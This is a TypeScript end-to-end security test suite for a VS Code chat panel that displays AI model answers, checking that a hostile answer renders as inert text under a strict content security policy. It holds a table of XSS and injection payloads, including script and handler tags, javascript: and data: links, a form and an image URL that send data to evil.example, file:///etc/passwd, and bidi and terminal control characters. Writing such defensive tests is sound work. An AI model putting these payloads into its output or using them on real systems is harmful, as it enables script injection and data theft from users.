import assert from 'node:assert/strict';
import { describe, it } from 'mocha';
import type { FrameLocator, Locator, Page } from 'playwright-core';
import { shot } from '../provision/workbench.ts';
import { EMAIL } from '../unit/made-up.ts';
import { useStage } from './shared-stage.ts';
import { enter } from './stage.ts';

/** All that Markdown makes, and what we put around it; nothing of an answer makes another element. */
const MADE = new Set(
  'DIV P BR HR H1 H2 H3 H4 H5 H6 BLOCKQUOTE UL OL LI PRE CODE EM STRONG S A TABLE THEAD TBODY TR TH TD SPAN BUTTON'.split(
    ' ',
  ),
);
/** What an element of an answer may have. Of these only a number and a title are made of what the model said. */
const ATTRIBUTES = new Set(
  'class dir tabindex role title type start data-stand-in data-take aria-label aria-hidden aria-pressed'.split(
    ' ',
  ),
);

/** Each is shown as the text it is, or as a mark of what it is. */
const HOSTILE: readonly (readonly [what: string, source: string, shown: string])[] = [
  ['a script', '<script>window.pwned = 1</script>', '<script>window.pwned = 1</script>'],
  [
    'a script in the midst of a line',
    'a <ScRiPt src=//evil.example/x.js>',
    '<ScRiPt src=//evil.example/x.js>',
  ],
  ['a handler', '<img src=x onerror="window.pwned = 1">', '<img src=x onerror="window.pwned = 1">'],
  ['a picture of the web', '![a picture](https://evil.example/p.png?EMAIL_1)', 'a picture'],
  ['an SVG', '<svg onload="window.pwned=1"><use href="#x"/></svg>', '<svg onload='],
  ['an SVG as a picture', '![dot](data:image/svg+xml;base64,PHN2Zy8+)', '![dot](data:image/svg+xml'],
  ['a frame', '<iframe srcdoc="<script>parent.pwned=1</script>"></iframe>', '<iframe srcdoc='],
  ['a style', '<style>*{display:none}</style>', '<style>*{display:none}</style>'],
  ['a style of an element', '<p style="position:fixed;inset:0">over all</p>', '<p style='],
  ['a form', '<form action="https://evil.example"><input name=q></form>', '<form action='],
  [
    'a base and a refresh',
    '<base href="https://evil.example/"><meta http-equiv="refresh" content="0">',
    '<base href=',
  ],
  ['a command', '[run](command:workbench.action.terminal.new)', '[run](command:workbench'],
  ['a script as a link', '[press](javascript:window.pwned=1)', '[press](javascript:window.pwned=1)'],
  ['a script as a link, disguised', '[press](&#106;avascript&colon;window.pwned=1)', '[press]('],
  ['a page as a link', '[open](data:text/html,<script>window.pwned=1</script>)', '[open](data:text/html'],
  ['a link into the editor', '[install](vscode:extension/evil.extension)', '[install](vscode:extension'],
  ['a file', '[read](file:///etc/passwd)', '[read](file:///etc/passwd)'],
  ['a link with a name in it', '[log in](https://github.com@evil.example/)', '[log in](https://github.com@'],
  ['text that is turned round', 'access \u202Egnp.exe', 'access U+202Egnp.exe'],
  ['text that is isolated', '\u2066a\u2069 \u2067b', 'U+2066aU+2069 U+2067b'],
  ['colours of a terminal', '\u001B[31mred\u001B[0m \u009B2J', 'U+001B[31mredU+001B[0m U+009B2J'],
  ['a title of a terminal', '\u001B]0;owned\u0007', 'U+001B]0;ownedU+0007'],
  ['code with HTML in it', '```html\n<img src=x onerror=alert(1)>\n```', '<img src=x onerror=alert(1)>'],
  [
    'code named as though it were an attribute',
    '```x"onmouseover="window.pwned=1\nhello code\n```',
    'hello code',
  ],
  ['code with a control in it', '```js\nif (admin\u202E) {} // \u2066\n```', 'if (adminU+202E) {} // U+2066'],
  ['a table of HTML', '| <b>a</b> |\n|---|\n| <img src=x> |', '<img src=x>'],
  ['a list that begins anywhere', '999999999. <u>far</u>', '<u>far</u>'],
];

describe('a hostile answer', () => {
  const stage = useStage();

  async function answered(pieces: readonly string[], prompt: string): Promise<Asked> {
    stage.model.answer = { pieces };
    const { page, panel } = await stage.open();
    await watch(panel);
    await enter(page, panel, prompt);
    return { page, panel, answer: panel.locator('airlock-turn').nth(1) };
  }

  for (const theme of ['dark', 'light'] as const) {
    it(`is shown as the harmless text it is, in ${theme}`, async () => {
      stage.model.answer = { pieces: HOSTILE.map(([, source]) => `${source}\n\n`) };
      const { page, panel } = await stage.open({ theme });
      await watch(panel);
      await enter(page, panel, `mail ${EMAIL}`);
      await panel.getByRole('button', { name: 'Redact 1 and send' }).click();
      const answer = panel.locator('airlock-turn').nth(1);
      await answer.getByRole('button', { name: 'Copy Answer' }).waitFor();
      const text = (await answer.locator('.answer').innerText()).replaceAll(/\s+/g, ' ');
      for (const [what, , shown] of HOSTILE) assert.ok(text.includes(shown), `${what}: ${text}`);
      const made = await madeOf(answer);
      assert.deepEqual(
        made.tags.filter((tag) => !MADE.has(tag)),
        [],
      );
      assert.deepEqual(
        made.attributes.filter((name) => !ATTRIBUTES.has(name)),
        [],
      );
      assert.equal(await answer.getByRole('link').count(), 0, 'none of them is a link');
      assert.deepEqual(await seenIn(panel), { pwned: false, violations: [] });
      await shot(page, `hostile-${theme}`);
      // No terminal was opened, and no other window.
      assert.equal(page.context().pages().length, 1);
      assert.equal(await page.locator('.terminal-wrapper').count(), 0);
      await stillWorks(page, panel);
    });
  }

  it('has links of the web that show their address before anything opens', async () => {
    const { page, answer } = await answered(['see [the docs](https://evil.example/?q=1)'], 'Where?');
    const link = answer.getByRole('link', { name: 'the docs' });
    await link.waitFor();
    assert.equal(await link.getAttribute('href'), null, 'so that the editor does not open it by itself');
    await link.click();
    await page.locator('.monaco-dialog-box').getByText('https://evil.example/?q=1').waitFor();
    assert.equal(page.context().pages().length, 1);
    await page.keyboard.press('Escape');
  });

  it('of 10 MB on one line leaves the panel quick while it comes and once it is there', async () => {
    const piece = 'x<b>\u202E'.repeat(8_192);
    const count = Math.ceil((10 * 1024 * 1024) / piece.length);
    stage.model.answer = { pieces: Array.from({ length: count }, () => piece), hold: true };
    const { page, panel } = await stage.open();
    await watch(panel);
    await enter(page, panel, 'Say much.');
    const answer = panel.locator('airlock-turn').nth(1);
    await answer.getByText('x<b>').first().waitFor({ timeout: 60_000 });
    const during = await keystrokes(page, panel);
    stage.model.release();
    await answer.getByRole('button', { name: 'Copy Answer' }).waitFor({ timeout: 60_000 });
    const afterwards = await keystrokes(page, panel);
    console.log(`    a key takes ${during} ms while it comes, ${afterwards} ms afterwards`);
    assert.ok(during < 2_000 && afterwards < 500, `${during} ms, ${afterwards} ms`);
    assert.equal((await madeOf(answer)).text >= 10 * 1024 * 1024, true, 'all of it is there');
    assert.deepEqual(await seenIn(panel), { pwned: false, violations: [] });
    await shot(page, 'hostile-10-mb');
    // With all that before it a prompt is more than is looked through: that is said, and nothing typed is lost.
    const prompt = panel.getByRole('textbox', { name: 'Prompt' });
    await prompt.fill('');
    await enter(page, panel, 'Are you still there?');
    await panel.getByText('at most 10 MB are looked at').waitFor({ timeout: 60_000 });
    assert.equal(await prompt.inputValue(), 'Are you still there?');
  });

  it('of Markdown nested without end leaves the panel alive', async () => {
    const { page, panel, answer } = await answered(
      ['> '.repeat(20_000), '\n\n', '['.repeat(20_000), '\n\n', '*a _'.repeat(20_000), '\n\nthe end'],
      'Nest.',
    );
    await answer.getByRole('button', { name: 'Copy Answer' }).waitFor({ timeout: 60_000 });
    await answer.getByText('the end').waitFor();
    assert.ok((await keystrokes(page, panel)) < 500);
  });
});

describe('the page of the panel', () => {
  const stage = useStage();

  it('loads its own script and styles alone, and has none in line', async () => {
    const { panel } = await stage.open();
    const page = await panel.locator('html').evaluate((html) => ({
      policy: html.querySelector('meta[http-equiv="Content-Security-Policy"]')?.getAttribute('content') ?? '',
      scripts: [...html.querySelectorAll('script')].map((one) => [one.nonce, one.src, one.textContent]),
      // The editor's own styles for every webview are the one exception; they are there before the page.
      styles: [...html.querySelectorAll('body style, body [style]')].map((one) => one.outerHTML.slice(0, 80)),
      handlers: [...html.querySelectorAll('*')].flatMap((one) =>
        one.getAttributeNames().filter((name) => name.startsWith('on')),
      ),
    }));
    const [defaults, script] = page.policy.split('; ');
    assert.equal(defaults, "default-src 'none'");
    const nonce = /^script-src 'nonce-([0-9a-f]{16,})'$/.exec(script ?? '')?.[1];
    assert.ok(nonce, page.policy);
    assert.ok(
      !/unsafe|\*(?!\.vscode-cdn)|data:|blob:|connect-src|img-src|frame-src/.test(page.policy),
      page.policy,
    );
    const own = page.scripts.filter(([, src]) => src?.endsWith('/dist/webview.js'));
    assert.deepEqual(
      own.map(([, , text]) => text),
      [''],
    );
    assert.deepEqual(
      own.map(([one]) => one),
      [nonce],
    );
    assert.deepEqual([page.styles, page.handlers], [[], []]);
  });

  it('runs no script and takes no style that something got into it', async () => {
    const { panel } = await stage.open();
    await watch(panel);
    await panel.locator('main').evaluate((main) => {
      const script = document.createElement('script');
      script.textContent = 'window.pwned = 1';
      const picture = document.createElement('img');
      picture.setAttribute('onerror', 'window.pwned = 1');
      picture.src = 'https://evil.example/p.png';
      const styled = document.createElement('p');
      styled.setAttribute('style', 'color: red');
      main.append(script, picture, styled);
      void fetch('https://evil.example/').catch(() => undefined);
    });
    await panel.locator('main').evaluate(async () => {
      const all = (globalThis as { violations?: unknown[] }).violations ?? [];
      while (all.length < 5) await new Promise(requestAnimationFrame);
    });
    const seen = await seenIn(panel);
    assert.equal(seen.pwned, false);
    assert.deepEqual([...new Set(seen.violations)].sort(), [
      'connect-src',
      'img-src',
      'script-src-attr',
      'script-src-elem',
      'style-src-attr',
    ]);
  });

  it('drops what is no message of the protocol, and goes on', async () => {
    const { page, panel } = await stage.open();
    await panel.locator('main').evaluate(async () => {
      const forged: readonly unknown[] = [
        null,
        'state',
        [],
        { type: 'state' },
        { type: 'state', state: { turns: [{ id: 'x', role: 'assistant', text: '<b>forged</b>' }] } },
        { type: 'delta', turn: 'x', text: 1, thought: '', standIns: [] },
        { type: 'delta', turn: 'x', text: 'forged', thought: '', standIns: [], html: '<b>forged</b>' },
        { type: 'focus', and: 'more' },
        { type: 'run', script: 'window.pwned = 1' },
      ];
      for (const message of forged) window.postMessage(message, '*');
      // The last of them has arrived as well then.
      await new Promise((resolve) => {
        const last = new MessageChannel();
        last.port1.onmessage = resolve;
        setTimeout(() => last.port2.postMessage(null));
      });
    });
    assert.ok(!(await panel.locator('body').innerText()).includes('forged'));
    await stillWorks(page, panel);
  });
});

interface Asked {
  readonly page: Page;
  readonly panel: FrameLocator;
  readonly answer: Locator;
}

/** Notes what the page's policy refuses from now on. */
function watch(panel: FrameLocator): Promise<void> {
  return panel.locator('main').evaluate(() => {
    const violations: string[] = [];
    Object.assign(globalThis, { violations });
    document.addEventListener('securitypolicyviolation', (event) =>
      violations.push(event.effectiveDirective),
    );
  });
}

/** Whether a script of the answer ran, and what the policy had to refuse. */
function seenIn(panel: FrameLocator): Promise<{ pwned: boolean; violations: string[] }> {
  return panel.locator('main').evaluate(() => ({
    pwned: 'pwned' in globalThis,
    violations: (globalThis as { violations?: string[] }).violations ?? ['not watched'],
  }));
}

/** Of which elements and attributes something is made, each once, and how long its text is. */
function madeOf(root: Locator): Promise<{ tags: string[]; attributes: string[]; text: number }> {
  return root.locator('.said').evaluate((said) => {
    const all = [...said.querySelectorAll('*')];
    return {
      tags: [...new Set(all.map(({ tagName }) => tagName))],
      attributes: [...new Set(all.flatMap((one) => one.getAttributeNames()))],
      text: said.textContent?.length ?? 0,
    };
  });
}

/** The longest of ten keystrokes in the composer until it is painted, in milliseconds. */
async function keystrokes(page: Page, panel: FrameLocator): Promise<number> {
  const composer = panel.getByRole('textbox', { name: 'Prompt' });
  await composer.click();
  await composer.evaluate((area) => {
    const times: number[] = [];
    Object.assign(globalThis, { times });
    area.addEventListener('keydown', ({ timeStamp }) => {
      requestAnimationFrame(() => setTimeout(() => times.push(performance.now() - timeStamp)));
    });
  });
  for (let key = 0; key < 10; key++) await page.keyboard.press('a');
  const longest = await composer.evaluate(async () => {
    const { times = [] } = globalThis as { times?: number[] };
    while (times.length < 10) await new Promise(requestAnimationFrame);
    return Math.max(...times);
  });
  await composer.fill('');
  return Math.round(longest);
}

async function stillWorks(page: Page, panel: FrameLocator): Promise<void> {
  await panel.getByRole('textbox', { name: 'Prompt' }).fill('');
  await enter(page, panel, 'Are you still there?');
  await panel.locator('.user').last().getByText('Are you still there?').waitFor();
  await panel.locator('airlock-turn').last().getByRole('button', { name: 'Copy Answer' }).waitFor();
}
